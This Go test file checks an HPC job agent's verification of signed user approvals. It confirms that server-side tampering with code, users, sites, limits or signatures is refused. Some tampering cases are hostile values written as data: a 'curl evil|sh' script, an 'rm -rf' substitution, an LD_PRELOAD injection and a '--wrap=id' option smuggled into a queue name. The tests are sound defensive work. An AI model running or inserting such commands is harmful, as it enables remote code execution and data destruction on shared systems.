package policy_test

import (
	"encoding/json"
	"errors"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/crypto/ssh"

	"github.com/hpcsera/hpcsera"
	"github.com/hpcsera/hpcsera/approval"
	"github.com/hpcsera/hpcsera/internal/agent/policy"
)

func TestWhatTheUserSignedRuns(t *testing.T) {
	key := plainKey(t)
	s, j := newSite(t, key, nil), newJob(t, key)
	got, err := j.verify(t, s)
	if err != nil {
		t.Fatalf("got %v, want no error", err)
	}
	if diff := cmp.Diff(hpcsera.Values{"viscosity": json.RawMessage("0.02"), "label": json.RawMessage(`"x"`)}, got.Values); diff != "" {
		t.Errorf("values: -want +got:\n%s", diff)
	}
	if got.Digest != j.statement.Code || got.Manifest.Script != "icoFoam\n" || got.Statement.ID != j.statement.ID || got.Runs != 3 {
		t.Errorf("got %+v", got)
	}
	if got.KeyName != "laptop" || got.Fingerprint != ssh.FingerprintSHA256(key.PublicKey()) {
		t.Errorf("got key %q %s", got.KeyName, got.Fingerprint)
	}
}

// What code is at other sites is signed with the rest and is nothing here,
// whatever site the server names.
func TestTheVerdictHoldsTheCodeAsItIsHere(t *testing.T) {
	key := plainKey(t)
	m := manifest()
	m.Program = hpcsera.Program{Executable: "/opt/solver"}
	m.Sites = map[string]hpcsera.SiteCode{"gwdg": {Modules: []string{"gcc/14"}}, "hlrs": {Executable: "/sw/solver"}}
	s, j := newSite(t, key, nil), newJobOf(t, key, m)
	got, err := j.verify(t, s)
	if err != nil {
		t.Fatal(err)
	}
	if got.Manifest.Executable != "/opt/solver" || len(got.Manifest.Modules) != 1 || got.Manifest.Sites != nil || got.Digest != j.statement.Code {
		t.Errorf("got %+v", got)
	}
	j.order.Site = "hlrs"
	v, err := j.verify(t, s)
	wantRefusal(t, v, err, hpcsera.ApprovalInvalid, "site is hlrs")
}

func TestATakenOverServerCannotChangeAnything(t *testing.T) {
	set := func(field, value string) func(*job) {
		return func(j *job) {
			switch field {
			case "order.user":
				j.order.User = value
			case "order.project":
				j.order.Project = value
			case "order.site":
				j.order.Site = value
			case "order.client":
				j.order.Client = value
			case "order.submitter":
				j.order.Submitter = value
			case "order.name":
				j.order.Name = value
			case "order.digest":
				j.order.Digest = value
			}
		}
	}
	code := func(change func(*hpcsera.Manifest)) func(*job) {
		return func(j *job) {
			m := manifest()
			change(&m)
			j.order.Manifest, _ = json.Marshal(m)
			j.order.Digest, _ = m.Digest() // a server would not forget that
		}
	}
	raw := func(old, new string) func(*job) {
		return func(j *job) {
			text := strings.Replace(string(j.order.Manifest), old, new, 1)
			if text == string(j.order.Manifest) {
				panic("nothing replaced: " + old)
			}
			j.order.Manifest = json.RawMessage(text)
		}
	}
	invalid, policyReason := hpcsera.ApprovalInvalid, hpcsera.RejectedByPolicy
	for _, c := range []struct {
		name   string
		change func(*job)
		reason hpcsera.Reason
		say    string
	}{
		{"another script", code(func(m *hpcsera.Manifest) { m.Script = "curl evil|sh\n" }), invalid, "code is sha256:"},
		{"another file", code(func(m *hpcsera.Manifest) {
			m.Files = []hpcsera.File{{Path: "a", Mode: "0755", SHA256: strings.Repeat("0", 64)}}
		}), invalid, "code is"},
		{"an environment variable", code(func(m *hpcsera.Manifest) { m.Environment = map[string]string{"LD_PRELOAD": "/tmp/x"} }), invalid, "code is"},
		{"a wider schema", code(func(m *hpcsera.Manifest) { m.Parameters["label"] = json.RawMessage(`{}`) }), invalid, "code is"},
		{"wider limits in the code", code(func(m *hpcsera.Manifest) { m.Limits.NodeCount = 400 }), invalid, "code is"},
		{"a custom attribute", code(func(m *hpcsera.Manifest) { m.CustomAttributes = map[string]string{"slurm.constraint": "x"} }), invalid, "code is"},
		{"another program at this site", code(func(m *hpcsera.Manifest) {
			m.Sites = map[string]hpcsera.SiteCode{"gwdg": {Environment: map[string]string{"LD_PRELOAD": "/tmp/x"}}}
		}), invalid, "code is"},
		{"one more artifact", code(func(m *hpcsera.Manifest) { m.Artifacts = append(m.Artifacts, hpcsera.ArtifactPattern{Path: "*"}) }), invalid, "code is"},
		{"another script under the same digest", raw(`icoFoam`, `rm -rf`), invalid, "the order says"},
		{"an unknown member of the code", raw(`"name"`, `"prolog":"x","name"`), invalid, "prolog"},
		{"an unknown member of an artifact", raw(`"path":"out.csv"`, `"path":"out.csv","exec":"x"`), invalid, "exec"},
		{"a member of the code twice", raw(`"script":"icoFoam\n"`, `"script":"icoFoam\n","script":"x"`), invalid, "twice"},
		{"a member in another case", raw(`"script":"icoFoam\n"`, `"script":"icoFoam\n","Script":"x"`), invalid, "Script"},
		{"no manifest", func(j *job) { j.order.Manifest = json.RawMessage(`null`) }, invalid, "manifest"},
		{"another digest", set("order.digest", "sha256:"+strings.Repeat("0", 64)), invalid, "the order says"},
		{"another user", set("order.user", "mallory"), invalid, "user is mallory, but alice was signed"},
		{"another project", set("order.project", "melt"), invalid, "project is melt, but cfd was signed"},
		{"another site", set("order.site", "hlrs"), invalid, "site is hlrs, but what was signed is gwdg"},
		{"another site in the run part", func(j *job) { j.order.Run.Site = "hlrs" }, policyReason, "hlrs"},
		{"another client", set("order.client", "flowable"), invalid, "client is flowable, but what was signed is gitlab"},
		{"another submitter", set("order.submitter", "mallory"), invalid, "submitter is mallory, but what was signed is alice, bob"},
		{"another name", set("order.name", "harmless"), policyReason, "job's name is harmless"},
		{"more nodes", func(j *job) { j.order.Run.Resources.NodeCount = 5 }, policyReason, "resources.node_count: 5 exceeds the signed limit of 4"},
		{"more memory", func(j *job) { j.order.Run.Resources.Memory = 65 << 30 }, policyReason, "resources.memory"},
		{"more time", func(j *job) { j.order.Run.Attributes.Duration = hpcsera.Duration(3 * time.Hour) }, policyReason, "attributes.duration"},
		{"another queue", func(j *job) { j.order.Run.Attributes.QueueName = "gpu" }, policyReason, "attributes.queue_name"},
		{"an account", func(j *job) { j.order.Run.Attributes.Account = "others" }, policyReason, "attributes.account"},
		{"a reservation", func(j *job) { j.order.Run.Attributes.ReservationID = "r1" }, policyReason, "attributes.reservation_id"},
		{"an option as queue", func(j *job) { j.order.Run.Attributes.QueueName = "--wrap=id" }, policyReason, "attributes.queue_name"},
		{"negative nodes", func(j *job) { j.order.Run.Resources.NodeCount = -1 }, policyReason, "resources.node_count"},
		{"requeue", func(j *job) { j.order.Run.Requeue = true }, policyReason, "requeue"},
		{"a run part of another version", func(j *job) { j.order.RunFault = "prologue: unknown" }, policyReason, "prologue"},
		{"a value outside its schema", func(j *job) { j.order.Run.Values["viscosity"] = json.RawMessage("0") }, policyReason, "values.viscosity"},
		{"a value that is no parameter", func(j *job) { j.order.Run.Values["LD_PRELOAD"] = json.RawMessage(`"x"`) }, policyReason, "LD_PRELOAD"},
		{"a value of another type", func(j *job) { j.order.Run.Values["label"] = json.RawMessage(`{"a":1}`) }, policyReason, "values.label"},
		{"a value with a member twice", func(j *job) { j.order.Run.Values["label"] = json.RawMessage(`{"a":1,"a":2}`) }, policyReason, "twice"},
		{"no statement", func(j *job) { j.order.Statement = nil }, invalid, "no signed approval"},
		{"no signature", func(j *job) { j.order.Signature = "" }, invalid, "no signed approval"},
		{"a signature over other bytes", func(j *job) { j.order.Statement = append(j.order.Statement, ' ') }, invalid, "does not belong"},
		{"a statement that says more", func(j *job) {
			j.order.Statement = []byte(strings.Replace(string(j.order.Statement), `"runs":3`, `"runs":3000`, 1))
		}, invalid, "does not belong"},
	} {
		t.Run(c.name, func(t *testing.T) {
			key := plainKey(t)
			s, j := newSite(t, key, nil), newJob(t, key)
			c.change(j)
			v, err := j.verify(t, s)
			wantRefusal(t, v, err, c.reason, c.say)
			wantForged(t, err, err != nil && !strings.Contains(err.Error(), "what this agent does not know"))
		})
	}
}

// wantForged checks whether a refusal blames the server.
func wantForged(t testing.TB, err error, want bool) {
	t.Helper()
	var r *policy.Refusal
	if errors.As(err, &r) && r.Forged != want {
		t.Errorf("%v: called forged %t, want %t", err, r.Forged, want)
	}
}

func TestWhatTheUsersOwnSettingsExplainIsNoForgery(t *testing.T) {
	for _, c := range []struct {
		name   string
		change func(*job)
		say    string
	}{
		{"the user misspelt", func(j *job) { j.in.User = "alcie" }, "write user: alice into agent.yaml"},
		{"the site misspelt", func(j *job) { j.in.Site = "gwgd" }, "write site: gwdg into agent.yaml"},
		{"another project", func(j *job) { j.in.Projects = []string{"melt"} }, "this agent serves melt"},
		{"the user misspelt where nobody signs", func(j *job) {
			j.in.User, j.in.Unsigned, j.order.Statement, j.order.Signature = "alcie", true, nil, ""
		}, "write user: alice into agent.yaml"},
	} {
		t.Run(c.name, func(t *testing.T) {
			key := plainKey(t)
			s, j := newSite(t, key, nil), newJob(t, key)
			c.change(j)
			v, err := j.verify(t, s)
			wantRefusal(t, v, err, hpcsera.RejectedByPolicy, c.say)
			wantForged(t, err, false)
		})
	}
	t.Run("no key trusted yet", func(t *testing.T) {
		s, j := newSite(t, plainKey(t), nil), newJob(t, plainKey(t))
		s.change(t, func(trust *policy.Trust) { trust.Keys = nil })
		v, err := j.verify(t, s)
		wantRefusal(t, v, err, hpcsera.ApprovalInvalid, "hpcsera-agent trust add")
		wantForged(t, err, false)
	})
	t.Run("another key trusted", func(t *testing.T) {
		s, j := newSite(t, plainKey(t), nil), newJob(t, plainKey(t))
		v, err := j.verify(t, s)
		wantRefusal(t, v, err, hpcsera.ApprovalInvalid, "hpcsera-agent trust add")
		wantForged(t, err, true)
	})
}

func TestAStatementOfTheUserHoldsOnlyWhereItSays(t *testing.T) {
	// Everything here is signed by the trusted key; it is for something else.
	invalid := hpcsera.ApprovalInvalid
	other := "sha256:" + strings.Repeat("0", 64)
	for _, c := range []struct {
		name   string
		change func(*approval.Statement)
		reason hpcsera.Reason
		say    string
	}{
		{"other code", func(s *approval.Statement) { s.Code = other }, invalid, "but " + other + " was signed"},
		{"other schemas", func(s *approval.Statement) { s.Schema = other }, invalid, "parameter schemas"},
		{"another name", func(s *approval.Statement) { s.Name = "melt" }, invalid, "name is cavity, but melt was signed"},
		{"another server", func(s *approval.Statement) { s.Deployment = "https://other.example.org" }, invalid, "server is https://hpc.example.org"},
		{"another user", func(s *approval.Statement) { s.User = "bob" }, invalid, "user is alice, but bob was signed"},
		{"another project", func(s *approval.Statement) { s.Project = "melt" }, invalid, "project is cfd"},
		{"another site", func(s *approval.Statement) { s.Sites = []string{"hlrs"} }, invalid, "site is gwdg, but what was signed is hlrs"},
		{"another agent", func(s *approval.Statement) { s.Agents = []string{strings.Repeat("A", 43)} }, invalid, "agent's key"},
		{"another client", func(s *approval.Statement) { s.Clients = []string{"flowable"} }, invalid, "client is gitlab"},
		{"another submitter", func(s *approval.Statement) { s.Submitters = []string{"alice"} }, invalid, "submitter is bob"},
		{"until now", func(s *approval.Statement) { s.NotAfter = now }, hpcsera.ApprovalExpired, "ended at 2026-11-22T14:05:00Z"},
		{"fewer nodes", func(s *approval.Statement) { s.Limits.NodeCount = 1 }, hpcsera.RejectedByPolicy, "exceeds the signed limit of 1"},
		{"no queue", func(s *approval.Statement) { s.Limits.QueueNames = nil }, hpcsera.RejectedByPolicy, "attributes.queue_name"},
	} {
		t.Run(c.name, func(t *testing.T) {
			key := plainKey(t)
			s, j := newSite(t, key, nil), newJob(t, key)
			c.change(&j.statement)
			j.sign(t, key)
			v, err := j.verify(t, s)
			wantRefusal(t, v, err, c.reason, c.say)
		})
	}
	for name, change := range map[string]func(*approval.Statement){
		"any client":                 func(s *approval.Statement) { s.Clients = []string{"*"} },
		"any submitter":              func(s *approval.Statement) { s.Submitters = []string{"*"} },
		"one of several sites":       func(s *approval.Statement) { s.Sites = []string{"gwdg", "hlrs"} },
		"a clock a little ahead":     func(s *approval.Statement) { s.NotBefore = now.Add(4 * time.Minute) },
		"until the very next second": func(s *approval.Statement) { s.NotAfter = now.Add(time.Second) },
	} {
		t.Run(name, func(t *testing.T) {
			key := plainKey(t)
			s, j := newSite(t, key, nil), newJob(t, key)
			change(&j.statement)
			j.sign(t, key)
			if _, err := j.verify(t, s); err != nil {
				t.Errorf("got %v, want no error", err)
			}
		})
	}
}

// A clock that was set back ends no job.
func TestAnApprovalOfLaterMakesItsJobWait(t *testing.T) {
	key := plainKey(t)
	s, j := newSite(t, key, nil), newJob(t, key)
	j.statement.NotBefore = now.Add(6 * time.Minute)
	j.sign(t, key)
	_, err := j.verify(t, s)
	var waiting *policy.Waiting
	if !errors.As(err, &waiting) || waiting.Reason != hpcsera.WaitingForApproval || !strings.Contains(err.Error(), "holds from") {
		t.Errorf("got %v, want it to wait for its approval", err)
	}
}

func TestOnlyTrustedKeysSign(t *testing.T) {
	mine, stranger := plainKey(t), plainKey(t)
	s, j := newSite(t, mine, nil), newJob(t, stranger)
	v, err := j.verify(t, s)
	wantRefusal(t, v, err, hpcsera.ApprovalInvalid, "hpcsera-agent trust add")

	t.Run("no trust file", func(t *testing.T) {
		if err := os.Remove(s.path); err != nil {
			t.Fatal(err)
		}
		v, err := newJob(t, mine).verify(t, s)
		wantRefusal(t, v, err, hpcsera.ApprovalInvalid, "not in this agent's trust file")
	})
	t.Run("a name like a stranger's fingerprint", func(t *testing.T) {
		trust, err := policy.Load(newSite(t, mine, nil).path)
		if err != nil {
			t.Fatal(err)
		}
		trust.Keys[0].Name = ssh.FingerprintSHA256(stranger.PublicKey())
		if err := trust.Save(); err == nil {
			t.Error("got no error: such a name could stand for another key")
		}
	})
}

func TestAKeyCountsAsSecondFactorOnlyWithAPersonBehindIt(t *testing.T) {
	notPlain := func(k *policy.Key) { k.Plain = false }
	plain := func(k *policy.Key) { k.Plain = true }
	touched, verified := device(t, 0x01), device(t, 0x05)
	for _, c := range []struct {
		name  string
		key   ssh.Signer
		entry func(*policy.Key)
		say   string // "" is accepted
	}{
		{"a plain key not marked", plainKey(t), notPlain, "does not say plain: true"},
		{"a plain key marked", plainKey(t), plain, ""},
		{"a security key touched only", touched, notPlain, "without its PIN"},
		{"a security key touched only, marked plain", touched, plain, ""},
		{"a security key with PIN", verified, notPlain, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			s, j := newSite(t, c.key, c.entry), newJob(t, c.key)
			v, err := j.verify(t, s)
			if c.say == "" {
				if err != nil {
					t.Errorf("got %v, want no error", err)
				}
				return
			}
			wantRefusal(t, v, err, hpcsera.ApprovalInvalid, c.say)
		})
	}
}

func TestAnEntryRestrictsItsKey(t *testing.T) {
	no, past, future := false, now, now.Add(time.Hour)
	for _, c := range []struct {
		name   string
		entry  func(*policy.Key)
		reason hpcsera.Reason // "" is accepted
		say    string
	}{
		{"another project", func(k *policy.Key) { k.Projects = []string{"melt"} }, hpcsera.RejectedByPolicy, "trusted for project melt, not for cfd"},
		{"this project", func(k *policy.Key) { k.Projects = []string{"melt", "cfd"} }, "", ""},
		{"ended", func(k *policy.Key) { k.NotAfter = &past }, hpcsera.ApprovalExpired, "ended"},
		{"not ended", func(k *policy.Key) { k.NotAfter = &future }, "", ""},
		{"fewer nodes", func(k *policy.Key) { k.Limits = &policy.Caps{NodeCount: 1} }, hpcsera.RejectedByPolicy, "beyond what key \"laptop\" may allow: resources.node_count"},
		{"less time", func(k *policy.Key) { k.Limits = &policy.Caps{Duration: hpcsera.Duration(time.Minute)} }, hpcsera.RejectedByPolicy, "attributes.duration"},
		{"other queues", func(k *policy.Key) { k.Limits = &policy.Caps{QueueNames: []string{"test"}} }, hpcsera.RejectedByPolicy, "attributes.queue_name"},
		{"caps that hold it", func(k *policy.Key) {
			k.Limits = &policy.Caps{NodeCount: 2, Memory: 32 << 30, QueueNames: []string{"medium"}, Requeue: &no}
		}, "", ""},
		{"more runs than signed", func(k *policy.Key) { k.Runs = 100 }, "", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			key := plainKey(t)
			s, j := newSite(t, key, c.entry), newJob(t, key)
			v, err := j.verify(t, s)
			if c.reason == "" {
				if err != nil || v.Runs != 3 {
					t.Errorf("got %+v, %v, want no error and 3 runs", v, err)
				}
				return
			}
			wantRefusal(t, v, err, c.reason, c.say)
		})
	}
}

func TestTheKeysRunsCountWhereTheyAreFewer(t *testing.T) {
	for keys, want := range map[int]int{0: 3, 1: 1, 100: 3} {
		key := plainKey(t)
		v, err := newJob(t, key).verify(t, newSite(t, key, func(k *policy.Key) { k.Runs = keys }))
		if err != nil || v.Runs != want {
			t.Errorf("statement 3, key %d: got %+v, %v, want %d runs", keys, v, err, want)
		}
	}
}

func TestAnAgentServesItsProjectsOnly(t *testing.T) {
	key := plainKey(t)
	s, j := newSite(t, key, nil), newJob(t, key)
	j.in.Projects = []string{"melt"}
	v, err := j.verify(t, s)
	wantRefusal(t, v, err, hpcsera.RejectedByPolicy, "this agent serves melt")
	j.in.Projects = []string{"melt", "cfd"}
	if _, err := j.verify(t, s); err != nil {
		t.Errorf("got %v, want no error", err)
	}
}

func TestWithdrawalHoldsAtOnceAndWithoutAServer(t *testing.T) {
	key := plainKey(t)
	s, j := newSite(t, key, nil), newJob(t, key)
	if _, err := j.verify(t, s); err != nil {
		t.Fatalf("before: got %v, want no error", err)
	}
	s.change(t, func(f *policy.Trust) { f.Withdrawn.Approvals = []string{j.statement.ID} })
	v, err := j.verify(t, s)
	wantRefusal(t, v, err, hpcsera.ApprovalWithdrawn, j.statement.ID)

	next := newJob(t, key)
	if _, err := next.verify(t, s); err != nil {
		t.Errorf("another approval: got %v, want no error", err)
	}
	s.change(t, func(f *policy.Trust) { f.Withdrawn.Keys = []string{ssh.FingerprintSHA256(key.PublicKey())} })
	v, err = next.verify(t, s)
	wantRefusal(t, v, err, hpcsera.ApprovalWithdrawn, "signing key")
}

func TestAReplacedApprovalIsDeadOnceItsReplacementWasSeen(t *testing.T) {
	key := plainKey(t)
	s, first, second := newSite(t, key, nil), newJob(t, key), newJob(t, key)
	second.statement.Replaces = first.statement.ID
	second.sign(t, key)
	if _, err := first.verify(t, s); err != nil {
		t.Fatalf("before: got %v, want no error", err)
	}

	t.Run("not by a replacement that is refused", func(t *testing.T) {
		forged := newJob(t, key)
		forged.statement.Replaces = first.statement.ID
		forged.sign(t, plainKey(t))
		_, err := forged.verify(t, s)
		if policy.Reason(err) != hpcsera.ApprovalInvalid {
			t.Fatalf("got %v, want it refused", err)
		}
		if _, err := first.verify(t, s); err != nil {
			t.Errorf("the first: got %v, want no error", err)
		}
	})

	if _, err := second.verify(t, s); err != nil {
		t.Fatalf("the replacement: got %v, want no error", err)
	}
	v, err := first.verify(t, s) // reads from the disk, as after a restart
	wantRefusal(t, v, err, hpcsera.ApprovalWithdrawn, "replaced by "+second.statement.ID)
	if _, err := second.verify(t, s); err != nil {
		t.Errorf("the replacement again: got %v, want no error", err)
	}
}

func TestARestrictedKeyReplacesNothing(t *testing.T) {
	end := now.Add(time.Hour)
	for name, restrict := range map[string]func(*policy.Key){
		"projects":  func(k *policy.Key) { k.Projects = []string{"cfd"} },
		"limits":    func(k *policy.Key) { k.Limits = &policy.Caps{NodeCount: 2} },
		"not_after": func(k *policy.Key) { k.NotAfter = &end },
		"runs":      func(k *policy.Key) { k.Runs = 1 },
	} {
		laptop, machine := plainKey(t), plainKey(t)
		s, other, j := newSite(t, laptop, nil), newJob(t, laptop), newJob(t, machine)
		s.change(t, func(f *policy.Trust) {
			k := policy.Key{Key: strings.TrimSpace(string(ssh.MarshalAuthorizedKey(machine.PublicKey()))), Name: "machine", Plain: true}
			restrict(&k)
			f.Keys = append(f.Keys, k)
		})
		other.order.Project, other.statement.Project = "climate", "climate"
		other.sign(t, laptop)
		j.statement.Replaces = other.statement.ID
		j.sign(t, machine)
		if _, err := j.verify(t, s); err != nil {
			t.Errorf("%s: the machine's approval: got %v, want no error", name, err)
		}
		if _, err := other.verify(t, s); err != nil {
			t.Errorf("%s: the other project's approval: got %v, want no error", name, err)
		}
	}
}

func TestTroublesOfTheHostDecideNothing(t *testing.T) {
	key := plainKey(t)
	for name, spoil := range map[string]func(s site) error{
		"a trust file that others can read": func(s site) error { return os.Chmod(s.path, 0o644) },
		"a directory that others can enter": func(s site) error { return os.Chmod(strings.TrimSuffix(s.path, "/trust.yaml"), 0o755) },
		"a link in place of the trust file": func(s site) error { _ = os.Rename(s.path, s.path+"2"); return os.Symlink(s.path+"2", s.path) },
		"a misspelt key":                    func(s site) error { return os.WriteFile(s.path, []byte("kees: []\n"), 0o600) },
		"a trust file that is no YAML":      func(s site) error { return os.WriteFile(s.path, []byte("keys: [\n"), 0o600) },
	} {
		t.Run(name, func(t *testing.T) {
			s, j := newSite(t, key, nil), newJob(t, key)
			if err := spoil(s); err != nil {
				t.Fatal(err)
			}
			v, err := j.verify(t, s)
			if v != nil || err == nil || policy.Reason(err) != "" || hpcsera.CodeOf(err) != hpcsera.Unavailable {
				t.Errorf("got %v, %v (reason %q), want an error that decides nothing, to be tried again", v, err, policy.Reason(err))
			}
		})
	}
}
